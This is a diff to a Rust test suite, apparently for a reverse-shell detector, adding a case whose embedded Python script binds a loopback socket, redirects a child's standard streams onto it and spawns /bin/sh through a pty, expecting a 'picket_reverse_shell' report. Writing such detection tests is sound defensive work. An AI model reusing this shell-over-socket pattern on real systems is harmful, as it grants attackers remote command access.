@@ -27,6 +27,29 @@ PYTHON
         reports: &["picket_reverse_shell"],
     },
     Case {
+        name: "a program gives a connection to a terminal, and that to a shell",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, pty, socket
+attacker = socket.create_server(("127.0.0.1", 0))
+victim = os.fork()
+if victim == 0:
+    address = attacker.getsockname()
+    attacker.close()
+    connection = socket.create_connection(address)
+    for descriptor in (0, 1, 2):
+        os.dup2(connection.fileno(), descriptor)
+    pty.spawn("/bin/sh")
+    os._exit(0)
+connection, _ = attacker.accept()
+connection.sendall(b"exit\n")
+os.waitpid(victim, 0)
+PYTHON
+"#,
+        reports: &["picket_reverse_shell"],
+    },
+    Case {
         name: "shells on pipes, on Unix sockets, and on a pipe after a connection",
         prepare: "loopback",
         script: r#"
